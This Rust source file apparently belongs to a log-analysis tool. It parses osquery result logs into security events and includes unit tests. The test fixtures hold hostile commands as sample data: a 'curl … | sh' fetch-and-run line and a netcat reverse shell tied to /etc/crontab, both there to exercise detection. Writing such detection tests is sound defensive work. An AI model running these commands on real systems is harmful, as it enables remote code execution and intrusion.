//! The `osquery` profile: `osqueryd.results.log` lines.
//!
//! osquery logs query results, not events, in three shapes: differential rows (one row a
//! line, `columns{…}` with `action` `added`/`removed`), batched differentials
//! (`diffResults{added:[…], removed:[…]}`) and snapshots (`snapshot:[{…}, …]`, the whole
//! result each time). Each row is one event, so a snapshot line gives several events and an
//! empty one none (counted as a skip, `no rows`, so that lines still add up).
//!
//! A row's meaning depends on its query (`name`), so the message is the query name, the
//! action and the row's columns as `key=value` in column-name order: the template model
//! then learns per query what a normal row looks like. The columns that mean the same in
//! every table become entities and typed fields: `username`/`user`/`uid` the user,
//! `command`/`cmdline` the command, `path` and `directory` paths, `remote_address`/`host`
//! the source.

use serde_json::{Map, Value};

use super::event::{names, Event, FieldValue, ProfileStats};
use super::json::{count_unknown_exact, resolve, Resolved};
use super::kind::{json_type, ProfileOptions, SkipReason};
use super::value::{self, scalar_text};
use super::wazuh::uid_user;

const KNOWN_TOP: &[&str] = &[
    "name",
    "hostIdentifier",
    "calendarTime",
    "unixTime",
    "epoch",
    "counter",
    "numerics",
    "decorations",
    "columns",
    "action",
    "snapshot",
    "diffResults",
    "log_type",
];

/// At most this many rows are read from one snapshot line; the rest are counted as
/// `invalid` `snapshot rows`. Bounds the work of one hostile line.
pub const MAX_ROWS_PER_LINE: usize = 100_000;

pub(crate) fn map(
    opts: &ProfileOptions,
    rec: &Value,
    file: usize,
    line: usize,
    stats: &mut ProfileStats,
) -> Result<Vec<Event>, SkipReason> {
    let mut rows: Vec<(&Map<String, Value>, String)> = Vec::new();
    let action = rec.get("action").and_then(scalar_text);
    fn push_rows<'a>(
        rows: &mut Vec<(&'a Map<String, Value>, String)>,
        items: &'a [Value],
        action: &str,
        stats: &mut ProfileStats,
    ) {
        for item in items {
            match item {
                Value::Object(m) if rows.len() < MAX_ROWS_PER_LINE => {
                    rows.push((m, action.to_string()))
                }
                Value::Object(_) => stats.count_invalid("snapshot rows"),
                _ => stats.count_invalid("row"),
            }
        }
    }
    if let Some(snap) = rec.get("snapshot") {
        let Value::Array(items) = snap else {
            return Err(("snapshot is not an array", json_type(snap).into()));
        };
        push_rows(
            &mut rows,
            items,
            action.as_deref().unwrap_or("snapshot"),
            stats,
        );
    } else if let Some(diff) = rec.get("diffResults") {
        let Value::Object(d) = diff else {
            return Err(("diffResults is not an object", json_type(diff).into()));
        };
        for (k, v) in d {
            match v {
                Value::Array(items) => push_rows(&mut rows, items, k, stats),
                _ => stats.count_invalid("diffResults"),
            }
        }
    } else {
        match rec.get("columns") {
            Some(Value::Object(m)) => rows.push((m, action.clone().unwrap_or_default())),
            Some(other) => return Err(("columns is not an object", json_type(other).into())),
            None => {
                return Err((
                    "no osquery result",
                    "no columns, snapshot or diffResults".into(),
                ))
            }
        }
    }

    let name = rec.get("name").and_then(scalar_text);
    let default_hosts: Vec<String> = [
        "hostIdentifier",
        "decorations.hostname",
        "decorations.host_uuid",
    ]
    .iter()
    .map(|s| s.to_string())
    .collect();
    let host = match resolve(
        rec,
        opts.host_paths.as_deref().unwrap_or(&default_hosts),
        false,
        scalar_text,
    ) {
        Resolved::Found(h) => Some(h),
        _ => None,
    };
    let line_time = rec
        .get("unixTime")
        .and_then(value::timestamp)
        .or_else(|| rec.get("calendarTime").and_then(value::timestamp));
    if name.is_none() {
        stats.count_missing("name");
    }
    count_unknown_exact(rec, KNOWN_TOP, stats);

    let mut out = Vec::with_capacity(rows.len());
    for (cols, action) in rows {
        let col = |k: &str| cols.get(k).and_then(scalar_text);
        let mut e = Event::new(file, line);
        e.host.clone_from(&host);
        e.timestamp = line_time.or_else(|| cols.get("time").and_then(value::timestamp));
        e.user = col("username")
            .or_else(|| col("user"))
            .or_else(|| cols.get("uid").and_then(uid_user));
        e.source_ip = col("remote_address")
            .or_else(|| col("source_ip"))
            .or_else(|| col("host"));
        e.session = col("session_id");
        for (slot, v) in [
            ("timestamp", e.timestamp.is_some()),
            ("host", e.host.is_some()),
            ("user", e.user.is_some()),
            ("source_ip", e.source_ip.is_some()),
            ("session", e.session.is_some()),
        ] {
            if !v {
                stats.count_missing(slot);
            }
        }
        let mut msg = String::new();
        if let Some(n) = &name {
            msg.push_str(n);
        }
        if !action.is_empty() {
            if !msg.is_empty() {
                msg.push(' ');
            }
            msg.push_str(&action);
        }
        // Column-name order whatever the map order (lad's serde_json keeps input order).
        let mut sorted: Vec<(&String, &Value)> = cols.iter().collect();
        sorted.sort_unstable_by(|a, b| a.0.cmp(b.0));
        for (k, v) in sorted {
            if let Some(t) = scalar_text(v) {
                if !msg.is_empty() {
                    msg.push(' ');
                }
                msg.push_str(k);
                msg.push('=');
                msg.push_str(&t);
            }
        }
        e.message = msg;
        if let Some(n) = &name {
            e.push(names::EVENT_TYPE, FieldValue::Category(n.clone()));
        }
        if !action.is_empty() {
            e.push(names::ACTION, FieldValue::Category(action.clone()));
        }
        if let Some(c) = col("command").or_else(|| col("cmdline")) {
            e.push(names::COMMAND, FieldValue::Command(c));
        }
        if let Some(p) = col("path") {
            e.push(names::PATH, FieldValue::Path(p));
        }
        if let Some(d) = col("directory") {
            e.push("directory", FieldValue::Path(d));
        }
        if let Some(c) = col("cwd") {
            e.push(names::CWD, FieldValue::Path(c));
        }
        if let Some(u) = col("uid") {
            e.push("uid", FieldValue::Category(u));
        }
        out.push(e);
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::profile::kind::{parse_bytes, parse_path, ProfileKind};
    use std::path::Path;

    #[test]
    fn differential_row() {
        let line = br#"{"name":"pack_it_shell_history","hostIdentifier":"lab1","calendarTime":"Tue Sep 30 17:37:30 2014 UTC","unixTime":1412123850,"epoch":0,"counter":3,"numerics":false,"columns":{"command":"curl -s http://x | sh","uid":"1000","directory":"/home/eve","username":"eve"},"action":"added"}"#;
        let (ev, st) = parse_bytes(ProfileKind::Osquery, &ProfileOptions::default(), line);
        assert_eq!(ev.len(), 1);
        let e = &ev[0];
        assert_eq!(e.host.as_deref(), Some("lab1"));
        assert_eq!(e.user.as_deref(), Some("eve"));
        // unixTime wins over calendarTime (they disagree in this made-up line).
        assert_eq!(
            e.timestamp.unwrap().to_rfc3339(),
            "2014-10-01T00:37:30+00:00"
        );
        assert_eq!(e.command(), Some("curl -s http://x | sh"));
        assert_eq!(
            e.field("directory"),
            Some(&FieldValue::Path("/home/eve".into()))
        );
        assert_eq!(
            e.field("action"),
            Some(&FieldValue::Category("added".into()))
        );
        assert_eq!(
            e.message,
            "pack_it_shell_history added command=curl -s http://x | sh directory=/home/eve uid=1000 username=eve"
        );
        assert!(st.unknown.is_empty());
    }

    #[test]
    fn snapshot_rows_and_batched_diffs() {
        let line = br#"{"snapshot":[{"pid":"1","uid":"0","cmdline":"/sbin/init","path":"/sbin/init"},{"pid":"42","uid":"33","cmdline":"php-fpm"},7],"action":"snapshot","name":"processes","hostIdentifier":"web","calendarTime":"Tue Sep  2 17:37:30 2014 UTC","unixTime":"1409679450"}
{"name":"users","hostIdentifier":"web","unixTime":1409679450,"diffResults":{"added":[{"username":"mallory","uid":"1001"}],"removed":[{"username":"bob","uid":"1000"}]}}
{"snapshot":[],"name":"empty"}"#;
        let (ev, st) = parse_bytes(ProfileKind::Osquery, &ProfileOptions::default(), line);
        assert_eq!(ev.len(), 4);
        assert_eq!(ev[0].user.as_deref(), Some("root"));
        assert_eq!(ev[0].command(), Some("/sbin/init"));
        assert_eq!(ev[1].user.as_deref(), Some("33"));
        assert!(ev[..2]
            .iter()
            .all(|e| e.line == 1
                && e.field("action") == Some(&FieldValue::Category("snapshot".into()))));
        assert_eq!(
            ev[2].field("action"),
            Some(&FieldValue::Category("added".into()))
        );
        assert_eq!(ev[2].user.as_deref(), Some("mallory"));
        assert_eq!(
            ev[3].field("action"),
            Some(&FieldValue::Category("removed".into()))
        );
        assert_eq!(ev[3].line, 2);
        assert_eq!(st.invalid["row"], 1);
        assert_eq!(st.skip_reasons["no rows"], 1);
        assert_eq!((st.lines, st.events, st.skipped), (3, 4, 1));
    }

    #[test]
    fn malformed_results_are_skipped_with_reasons() {
        let input =
            b"{\"snapshot\":{}}\n{\"diffResults\":[]}\n{\"columns\":\"x\"}\n{\"name\":\"q\"}\n";
        let (ev, st) = parse_bytes(ProfileKind::Osquery, &ProfileOptions::default(), input);
        assert!(ev.is_empty());
        assert_eq!(st.skipped, 4);
        assert_eq!(st.skip_reasons.len(), 4, "{:?}", st.skip_reasons);
    }

    #[test]
    fn panther_osquery_tests() {
        let opts = ProfileOptions {
            label_field: Some("expected_alert".into()),
            unwrap_field: Some("log".into()),
            ..Default::default()
        };
        let path = Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("../shared/data/security/osquery/panther_osquery_rule_tests.ndjson");
        let (ev, st) = parse_path(ProfileKind::Osquery, &opts, &path).unwrap();
        assert_eq!((st.lines, st.events, st.skipped), (37, 37, 0));
        assert_eq!(
            ev.iter()
                .filter(|e| e.label.as_deref() == Some("true"))
                .count(),
            18
        );
        let nc = ev
            .iter()
            .find(|e| e.command() == Some("nc -e /bin/bash 237.233.242.58 80"))
            .unwrap();
        assert_eq!(nc.label.as_deref(), Some("true"));
        assert_eq!(
            nc.field("path"),
            Some(&FieldValue::Path("/etc/crontab".into()))
        );
        assert_eq!(nc.host.as_deref(), Some("test-host"));
        let last = ev
            .iter()
            .find(|e| e.message.starts_with("pack-incident_response-last"))
            .unwrap();
        assert_eq!(last.user.as_deref(), Some("ubuntu"));
        assert_eq!(last.source_ip.as_deref(), Some("10.0.3.1"));
        assert_eq!(
            last.timestamp.unwrap().to_rfc3339(),
            "2020-04-21T20:56:14+00:00"
        );
        assert!(ev.iter().all(|e| !e.message.contains("expected_alert")));
    }
}
